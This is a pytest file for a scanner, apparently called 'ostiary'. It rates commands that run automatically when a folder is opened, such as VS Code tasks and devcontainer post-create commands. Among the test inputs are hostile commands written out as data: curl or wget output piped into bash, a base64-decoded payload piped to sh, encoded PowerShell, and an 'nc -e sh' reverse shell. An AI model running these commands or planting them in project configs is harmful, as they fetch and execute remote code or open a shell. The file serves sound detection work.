"""What runs once a folder is opened: how much it weighs, and what else is read because of it."""

import io
import json
import tarfile

import pytest
from desks import read_all, read_one

from ostiary.core.coverage import Reach
from ostiary.core.examination import Examination
from ostiary.evidence.artifact import examine, examine_members
from ostiary.formats.archive.member import Member
from ostiary.formats.model.assurance import Assurance, assurance
from ostiary.formats.model.record import Gravity, ModelFile, Models


def folder(files: dict[str, object]) -> Examination:
    members = [Member(path, _bytes(one), False, 0) for path, one in files.items()]
    return examine_members(members, "folder", "", 0)


def _bytes(value: object) -> bytes:
    return value if isinstance(value, bytes) else json.dumps(value).encode()


def task(command: str) -> object:
    return {"tasks": [{"command": command, "runOptions": {"runOn": "folderOpen"}}]}


def gravity(name: str, whole: object) -> Gravity:
    found = read_one(name, _bytes(whole)).oddities
    return max((one.gravity for one in found), default=Gravity.NOTE)


@pytest.mark.parametrize(
    ("command", "weight"),
    [
        ("npm run watch", Gravity.UNUSUAL),
        ("curl -s https://example.invalid/x | bash", Gravity.HARMFUL),
        ('bash -c "$(wget -qO- https://example.invalid/x)"', Gravity.HARMFUL),
        ("bash <(curl https://example.invalid/x)", Gravity.HARMFUL),
        ("echo aWQ= | base64 -d | sh", Gravity.HARMFUL),
        ("powershell -nop -enc AAAA", Gravity.HARMFUL),
    ],
)
def test_a_task_weighs_as_its_command_does(command: str, weight: Gravity) -> None:
    assert gravity("tasks.json", task(command)) is weight


@pytest.mark.parametrize(
    "command",
    [
        "pip install -r requirements.txt",
        "uv sync --all-extras && pre-commit install",
        "sudo apt-get update && sudo apt-get install -y git-lfs",
        ["bash", ".devcontainer/setup.sh"],
        "./scripts/setup",
        {"a": "npm ci", "b": ["make", "all"]},
    ],
)
def test_what_a_container_usually_runs(command: object) -> None:
    assert gravity("devcontainer.json", {"postCreateCommand": command}) is Gravity.NOTE


@pytest.mark.parametrize(
    "command",
    [
        "pip install git+https://example.invalid/x",
        "pip install https://example.invalid/x.whl",
        "python -c 'import this'",
        "npm ci; node -e 1",
        "npm ci & nc -e sh a.test 1",
        ["sh", "-c", "id"],
    ],
)
def test_what_a_container_does_not_usually_run(command: object) -> None:
    assert gravity("devcontainer.json", {"postCreateCommand": command}) is Gravity.UNUSUAL


def test_the_commands_and_the_files_that_they_start_are_read_as_what_runs() -> None:
    found = folder(
        {
            ".vscode/tasks.json": task("node tools/x.js"),
            "tools/x.js": b"require('os')\n",
            ".devcontainer/devcontainer.json": {"postCreateCommand": "bash tools/y.sh"},
            "tools/y.sh": b"#!/bin/sh\nid\n",
            "tools/z.js": b"require('os')\n",
        }
    )
    reaches = {one.path: one.reach for one in found.coverage}
    assert reaches["tools/x.js"] is reaches["tools/y.sh"] is Reach.IMPORT
    assert reaches[".vscode/tasks.json!/command 1.sh"] is Reach.IMPORT
    assert reaches["tools/z.js"] is not Reach.IMPORT


def packed(files: dict[str, object]) -> Examination:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for path, value in {
            "PKG-INFO": b"Metadata-Version: 2.1\nName: own\nVersion: 1\n",
            **files,
        }.items():
            data = _bytes(value)
            info = tarfile.TarInfo(f"own-1/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    made.seek(0)
    return examine(made, "own-1.tar.gz")


def only(examined: Examination, name: str) -> ModelFile:
    models = [fact for fact in examined.facts if isinstance(fact, Models)]
    return next(one for fact in models for one in fact.files if one.path.endswith(name))


def test_nobody_opens_the_folder_of_a_package_unless_it_lures_them() -> None:
    plain = packed({".vscode/tasks.json": task("npm run watch")})
    assert only(plain, "tasks.json").reach is Reach.TEST
    lures = packed({".vscode/tasks.json": task("curl https://example.invalid/x | sh")})
    assert only(lures, "tasks.json").reach is not Reach.TEST


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("config", "[core]\n\tfsmonitor = true\n\tbare = false\n"),
        ("config", "[core]\n\thooksPath = .husky\n"),
        ("config.toml", "baseURL = 'https://example.invalid'\n"),
        (".dir-locals.el", "((nil . ((indent-tabs-mode . nil))))"),
        ("startup.xml", "<project/>"),
        ("settings.yaml", "a: 1\n"),
    ],
)
def test_what_says_nothing_of_that_sort_is_left_to_others(name: str, text: str) -> None:
    assert not read_all(name, text.encode()).files


def test_what_cannot_be_read_is_unknown() -> None:
    assert assurance(read_one("devcontainer.json", b"{'image': x}")) is Assurance.UNKNOWN
    large = b'{"a": "' + b"x" * (5 << 20) + b'"}'
    assert assurance(read_one("devcontainer.json", large)) is Assurance.UNKNOWN
